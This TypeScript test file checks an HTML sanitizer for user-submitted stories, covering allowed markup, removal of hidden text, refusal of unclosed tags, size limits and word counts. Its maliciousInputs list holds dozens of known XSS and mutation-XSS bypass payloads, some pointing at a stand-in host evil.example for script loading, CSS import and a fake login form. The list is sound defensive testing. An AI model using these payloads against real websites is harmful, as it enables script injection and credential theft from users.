import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { requireClosed } from "./check-unclosed.ts";
import { countStoryWords, sanitizeStoryHtml } from "./story-html.ts";

/** Matches a `style` attribute that the sanitizer returns. */
const style =
  " style=\"(text-align:(left|center|right)|font-family:(&quot;|')?(Arial|Times New Roman|Courier New)(&quot;|')?)\"";
/** Matches all allowed output: text without angle brackets, and the allowed tags with the allowed attributes. */
const allowedHtml = new RegExp(
  `^(?:[^<>]|<(?:p|h2|h3|li|span)(?:${style})?>|<(?:strong|em|u|code|ul|blockquote|pre)>` +
    '|<ol(?: start="-?\\d+")?>|<[bh]r />' +
    '|<a href="(?:https?://|mailto:)[^"<>]*" rel="noopener nofollow ugc">' +
    "|</(?:p|h2|h3|strong|em|u|code|ul|ol|li|blockquote|pre|a|span)>)*$",
);

describe("sanitized markup stays unchanged", () => {
  test.each([
    "<p>Plain <strong>bold</strong> <em>italic</em> <u>underlined</u></p>",
    '<p style="text-align:center">c</p><p style="text-align:right">r</p><p style="text-align:left">l</p>',
    '<p><span style="font-family:Arial">a</span><span style="font-family:Times New Roman">t</span></p>',
    '<p><span style="font-family:&quot;Courier New&quot;">c</span></p>',
    "<ul><li><p>one</p></li><li><p>two</p></li></ul>",
    '<ol start="3"><li><p>three</p><ul><li><p>deep</p></li></ul></li></ol>',
    '<p><a href="https://example.com/?a=1&amp;b=2" rel="noopener nofollow ugc">link</a></p>',
    '<p><a href="mailto:ama@example.com" rel="noopener nofollow ugc">mail</a></p>',
    '<h2>One</h2><p>a</p><h3 style="text-align:center">The river</h3><p>b</p>',
    "<blockquote><p>She said:</p><ul><li><p>no</p></li></ul></blockquote>",
    "<p>before</p><hr /><p>after</p>",
    "<pre>The river  has\n    <em>three</em> names\n\nand a fourth</pre>",
    "<pre><code>if (a &lt; b) {\n  return;\n}</code></pre><p><code>a</code></p>",
    "<p>a<br />b</p><p></p><p>1 &lt; 2 &amp; 3 &gt; 2</p>",
    "<p>Ọ̀rúnmìlà كان يا ما كان 水 👩🏾‍🦱</p>",
  ])("%s", (html) => {
    expect(sanitizeStoryHtml(html)).toBe(html);
  });
});

test.each([
  ["<b>b</b><i>i</i>", "<strong>b</strong><em>i</em>"],
  ['<p style="text-align: center; color: red">x</p>', '<p style="text-align:center">x</p>'],
  ['<p style="text-align: justify">x</p>', "<p>x</p>"],
  ['<span style="font-family: Comic Sans MS">x</span>', "<span>x</span>"],
  ['<p id="a" class="b" data-c="d" dir="rtl">x</p>', "<p>x</p>"],
  [
    "<h1>1</h1><h2>2</h2><h3>3</h3><h4>4</h4><h5>5</h5><h6>6</h6>",
    "<h2>1</h2><h2>2</h2><h3>3</h3><h3>4</h3><h3>5</h3><h3>6</h3>",
  ],
  ['<h1 style="color:red;text-align:right">x</h1>', '<h2 style="text-align:right">x</h2>'],
  [
    '<blockquote cite="https://e.com" class="x"><p>x</p></blockquote>',
    "<blockquote><p>x</p></blockquote>",
  ],
  ['<pre class="x" style="color:red">a\r\n  b</pre>', "<pre>a\n  b</pre>"],
  ['<pre><code class="language-js">a</code></pre>', "<pre><code>a</code></pre>"],
  ['<hr class="x" onclick="y()">', "<hr />"],
  [
    '<a href="http://e.com" target="_blank">x</a>',
    '<a href="http://e.com/" rel="noopener nofollow ugc">x</a>',
  ],
  ["<s>struck</s> <mark>marked</mark>", "struck marked"],
  ["<p>nul\0l</p>", "<p>null</p>"],
])("%s becomes %s", (html, sanitized) => {
  expect(sanitizeStoryHtml(html).trim()).toBe(sanitized);
});

test.each([
  "<p hidden>secret</p>",
  '<p HIDDEN="until-found">secret</p>',
  '<p style="color:red; display: none">secret</p>',
  '<p style="DISPLAY:none!important">secret <b>more</b></p>',
  '<p style="visibility:hidden">secret</p>',
  "<p style='mso-hide:all'>secret</p>",
  '<p style="display&#58;none">secret</p>',
  '<p style="display:block;DISPLAY:none">secret</p>',
  '<p style="display:none !important;display:block">secret</p>',
  '<div style="display:none"><div><p>secret</p></div>secret</div>',
  '<table style="display:none"><tr><td>secret</table>',
  '<p>shown<span style="display:none"> secret</span></p>',
  "<ul><li hidden>secret<li>shown</ul>",
  "<p hidden>secret<p>shown</p>",
  "<div><i hidden>secret</div>shown",
  '<img hidden src="x"><p>shown</p>',
])("hidden text does not become visible: %s", (html) => {
  const sanitized = sanitizeStoryHtml(`<p>before</p>${html}<p>after</p>`);
  expect(sanitized).not.toContain("secret");
  expect(sanitized.includes("shown")).toBe(html.includes("shown"));
  expect(sanitized).toContain("before");
  expect(sanitized).toContain("after");
});

test("a story has at most 400,000 characters with its markup, and an emoji is one", () => {
  const html = (length: number) => `<p>${"🌊".repeat(length)}</p>`;
  expect(sanitizeStoryHtml(html(399_993))).toBe(html(399_993));
  expect(() => sanitizeStoryHtml(html(399_994))).toThrow(
    "This story takes too many characters. Please shorten it.",
  );
});

test("text that is not hidden stays", () => {
  const html =
    '<p>display:none and hidden</p><p style="display:none;display:block">x</p><p aria-hidden="true">y</p>';
  expect(sanitizeStoryHtml(html)).toBe("<p>display:none and hidden</p><p>x</p><p>y</p>");
});

test("the cells and rows of a table, and other blocks, keep their words apart", () => {
  const words = (html: string) => sanitizeStoryHtml(html).trim().split(/\s+/);
  expect(
    words(
      "<table><thead><tr><th>Name<th>Town</thead><tbody><tr><td>Ada</td><td>Accra</td></tr></table>",
    ),
  ).toEqual(["Name", "Town", "Ada", "Accra"]);
  expect(
    words("<fieldset><legend>One</legend>two</fieldset><menu>three</menu><search>four</search>"),
  ).toEqual(["One", "two", "three", "four"]);
});

describe("markup that would swallow what follows it is refused with its place", () => {
  const refusal = (html: string) => {
    try {
      requireClosed(html);
      return null;
    } catch (error) {
      return error instanceof Error ? error.message : "";
    }
  };

  test.each([
    [
      '<p>Hello</p>\n<p><a href="https://kora.example>the rest</a></p>',
      2,
      4,
      '<a href="https://kora.example>',
    ],
    ['<p title="abc>Hello</p><p class="x">World</p>', 1, 1, '<p title="abc>Hello</p><p clas'],
    ["<p>When a <b then all the rest</p><p>more</p>", 1, 11, "<b then all the rest</p><p>mor"],
    ["<p>one</p><!-- two <p>three</p>", 1, 11, "<!-- two <p>three</p>"],
    ["<p>ọ́ne</p><script>two <p>three</p>", 1, 12, "<script>two <p>three</p>"],
    ["<p>one</p>\n\n<style>\n<p>three</p>", 3, 1, "<style> <p>three</p>"],
    ["<title>One<p>two</p>", 1, 1, "<title>One<p>two</p>"],
    ["<p>one</p><svg><p>two</p>", 1, 11, "<svg><p>two</p>"],
    ["<p>one</p><div hidden><p>two</p>", 1, 11, "<div hidden><p>two</p>"],
    ["<p>one</p><p class='two", 1, 11, "<p class='two"],
  ])("%s", (html, line, column, quote) => {
    expect(refusal(html)).toBe(
      `A tag or quotation mark is not closed at line ${line}, character ${column}: ${quote}. The text after it would be lost.`,
    );
  });

  test.each([
    "",
    "<p>1 < 2 & 3 > 2, I <3 you</p>",
    "<p>one<p>two<ul><li>three<li>four",
    "<p>one <b>two",
    '<p title="a<b>c">one</p>',
    "<p title='say \"<b>\"'>one</p>",
    '<p class="a"class="b">one</p>',
    '<a href="https://kora.example"">one</a>',
    "<!-- one --><!----><!--> <p>two</p><!-- three --!>",
    "<script>one</script><style>two</style><p>three</p>",
    "<div><svg></div><p>one</p>",
    "<p>one</p",
    "<?xml version='1.0'?><!doctype html><p>one",
    "<![if !supportLists]>one<![endif]>",
  ])("but not: %s", (html) => {
    expect(refusal(html)).toBeNull();
  });
});

/** Inputs that have bypassed this or other sanitizers, or that a browser would execute. */
const maliciousInputs = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script/x>alert(1)</script\n>",
  "<p onclick=alert(1)>x</p>",
  "<p/onmouseover=alert(1)//>x",
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="text-align:center;position:fixed;inset:0">x</p>',
  '<p style="text-align:center/**/;behavior:url(x)">x</p>',
  '<span style="font-family:Arial&quot;;background:url(//evil.example)">x</span>',
  '<span style="font-family:Arial}body{display:none}">x</span>',
  '<h1 style="position:fixed;inset:0">x</h1>',
  '<h2 style="text-align:center;background:url(//evil.example)">x</h2>',
  '<li style="text-align:center} body{display:none">x</li>',
  '<p style="text-align:center!important">x</p>',
  "<style>@import '//evil.example/x.css'</style>",
  "<link rel=stylesheet href=//evil.example>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<base href=//evil.example/>",
  "<iframe src=//evil.example></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=x><embed src=x>",
  "<form action=//evil.example><input name=p><button>Log in</button></form>",
  "<img src=x onerror=alert(1)>",
  "<image src=x onerror=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<details open ontoggle=alert(1)>x</details>",
  "<svg onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  "<plaintext><img src=x onerror=alert(1)>",
  "<template><script>alert(1)</script></template>",
  '<title><a href="</title><img src=x onerror=alert(1)>"></title>',
  '<textarea><a title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  "<select><style></select><img src=x onerror=alert(1)></style>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!--!><img src=x onerror=alert(1)>--!>",
  "<![CDATA[><img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><p>x",
  "<a href=javascript:alert(1)>x</a>",
  "<a href=' java\nscript:alert(1)'>x</a>",
  "<a href='java&#x09;script:alert(1)'>x</a>",
  "<a href='&#106;avascript&colon;alert(1)'>x</a>",
  "<a href='\u0001javascript:alert(1)'>x</a>",
  "<a href=JaVaScRiPt:alert(1)>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='vbscript:x'>x</a><a href='blob:x'>x</a><a href='file:///etc/passwd'>x</a>",
  "<a href='//evil.example'>x</a><a href='/relative'>x</a><a href='#top'>x</a>",
  "<a href='https://e.com/\"onclick=alert(1)'>x</a>",
  "<a href='https://e.com' onclick=alert(1) ping=//evil.example download>x</a>",
  "<a href=https://e.com/`onclick=alert(1)`>x</a>",
  "<p title='><script>alert(1)</script>'>x</p>",
  "<p\0onclick=alert(1)>x</p>",
  "<\0script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
  "<p>x</p><script",
  '<a href="https://e.com',
  "<",
  "<p",
  "</p></p></div>",
];

describe("only the allowed markup is returned", () => {
  test.each(maliciousInputs)("%j", (html) => {
    const sanitized = sanitizeStoryHtml(html);
    expect(sanitized).toMatch(allowedHtml);
    expect(sanitizeStoryHtml(sanitized)).toMatch(allowedHtml);
  });

  test("for random combinations of such inputs", () => {
    const piece = fc.oneof(
      fc.constantFrom(...maliciousInputs),
      fc.constantFrom(
        "<p>",
        "</p>",
        "<ul><li>",
        "</li></ul>",
        "<ol start='2'>",
        "<span style='",
        "'>",
      ),
      fc.constantFrom(
        "<",
        ">",
        '"',
        "'",
        "`",
        "&",
        "&lt;",
        "&quot;",
        "=",
        "/",
        "--",
        "<!--",
        "]]>",
      ),
      fc.constantFrom(
        "<svg>",
        "<math>",
        "<style>",
        "</style>",
        "<noscript>",
        "<table>",
        "<select>",
      ),
      fc.string({ unit: "binary" }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        expect(sanitizeStoryHtml(pieces.join(""))).toMatch(allowedHtml);
      }),
      { numRuns: 1500 },
    );
  });

  test("for deeply nested lists, which become less deep", () => {
    const sanitized = sanitizeStoryHtml(`${"<ul><li>".repeat(150)}word${"</li></ul>".repeat(150)}`);
    expect(sanitized).toContain("word");
    expect(sanitized.split("<ul>").length).toBeLessThan(40);
  });
});

describe("more markup than a story needs is refused with an error message", () => {
  const tooMuchFormatting = "This story has too much formatting. Please simplify it and try again.";
  const attributes = Array.from({ length: 10_001 }, (_, index) => `a${index}`).join(" ");
  test.each([
    ["too many tags", "<".repeat(10_001)],
    ["too many closing tags", "</b>".repeat(10_001)],
    ["too many comments", "<!---->".repeat(10_001)],
    ["too many elements", "<br>".repeat(5001)],
    ["too many character references", `<p>${"&amp;".repeat(40_001)}</p>`],
    ["too many closing tags without opening tags", "</p>".repeat(5001)],
    ["too many elements inside each other", "<b>".repeat(301)],
    [
      "too many removed elements inside each other",
      `${"<div>".repeat(301)}${"</div>".repeat(301)}`,
    ],
    ["too many attributes", `<p ${attributes}>x</p>`],
    ["too many attributes after a bracket in quotes", `<p a=">" ${attributes}>x</p>`],
    ["too many links", '<a href="https://e.com">x</a>'.repeat(1001)],
  ])("%s", (_description, html) => {
    expect(() => sanitizeStoryHtml(html)).toThrow(tooMuchFormatting);
  });

  test("2,500 bold paragraphs of one word are accepted, and 5,000 words in centred lines of verse", () => {
    const boldParagraphs = "<p><strong>word</strong></p>".repeat(2500);
    expect(countStoryWords(sanitizeStoryHtml(boldParagraphs))).toBe(2500);
    const verse = '<p style="text-align:center"><em>one two three four</em></p>'.repeat(1250);
    expect(countStoryWords(sanitizeStoryHtml(verse))).toBe(5000);
  });

  test("a story that exceeds the limit of characters after sanitizing is refused", () => {
    expect(() => sanitizeStoryHtml("&".repeat(30_000) + "x".repeat(300_000))).toThrow(
      "This story takes too many characters. Please shorten it.",
    );
  });
});

describe("the number of words", () => {
  test.each([
    ["", 0],
    ["<p> </p><p>&nbsp;</p><p><br></p>", 0],
    ["<p>one two</p><p>three</p>", 3],
    ["<ul><li><p>one</p></li><li><p>two</p></li></ul>", 2],
    ["<p>one<br>two</p>", 2],
    [
      "<h1>one</h1><h2>two</h2><div>three</div><div>four</div>five<table><tr><td>six</td><td>7</td></tr></table>",
      7,
    ],
    ["<p>half<strong>bold</strong><em>half</em> word</p>", 2],
    ["<p>one&nbsp;two &amp; four</p>", 4],
    ['<p><a href="https://e.com/a b">one</a></p>', 1],
    ["<script>not a word</script><p>one</p>", 1],
    ["<h2>one</h2><h3>two</h3><blockquote>three</blockquote>four<hr>five", 5],
    ["<pre>one\ntwo   three</pre><pre><code>four\nfive</code></pre><p>six</p>", 6],
  ])("of %s is %i", (html, count) => {
    expect(countStoryWords(sanitizeStoryHtml(html))).toBe(count);
  });
});
